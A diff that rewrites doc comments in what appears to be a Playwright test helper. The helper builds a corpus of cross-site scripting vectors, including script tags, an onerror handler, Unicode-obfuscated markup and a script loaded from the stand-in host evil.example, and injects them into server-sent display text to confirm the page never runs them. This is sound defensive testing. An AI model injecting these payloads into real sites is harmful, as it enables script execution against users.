@@ -3,7 +3,7 @@ import type { Page } from '@playwright/test';
 const RUN = 'window.struck=(window.struck||0)+1';
 const AWAY = 'https://evil.example/';
 
-/** Markup that would run or load something, one of each way that browsers have had. */
+/** Markup that would run or load something, one for each way that browsers have had. */
 const VECTORS: readonly string[] = [
   `<script>${RUN}</script>`,
   `<script src=${AWAY}a.js></script>`,
@@ -81,7 +81,7 @@ const VECTORS: readonly string[] = [
   `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${RUN}"}}`,
   `\u202E<img src=x onerror="${RUN}">\u202C\u200B`,
 ];
-/** Places in which a text may be put together carelessly. */
+/** Contexts in which code might concatenate text carelessly. */
 const WAYS_IN: readonly ((markup: string) => string)[] = [
   (markup) => markup,
   (markup) => `">${markup}`,
@@ -91,7 +91,7 @@ const WAYS_IN: readonly ((markup: string) => string)[] = [
 
 export const HOSTILE_MARKUP: readonly string[] = WAYS_IN.flatMap((wayIn) => VECTORS.map(wayIn));
 
-/** What is not for people: what a page decides by. */
+/** Values that are not for display, but that the page’s logic depends on. */
 const STRUCTURE = new Set(
   'kind type status stage intent assistant mediaType promptKind source purpose part reason code origin'.split(
     ' ',
@@ -104,7 +104,7 @@ const PROSE = new Set(
 );
 const TOGETHER = 12;
 
-/** Puts the whole corpus, a dozen at a time, in the place of each text that the server sends for people to read. */
+/** Replaces each text that the server sends for display by the corpus, a dozen entries at a time. */
 export function spoiler(): (key: string, value: unknown) => unknown {
   let at = 0;
   const next = () => {
@@ -123,7 +123,7 @@ export function spoiler(): (key: string, value: unknown) => unknown {
   };
 }
 
-/** What the page has done, or holds, that only markup could have brought about. */
+/** Everything the page has done, or contains, that only injected markup could have caused. */
 export function harmDone(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     const found: string[] = [];
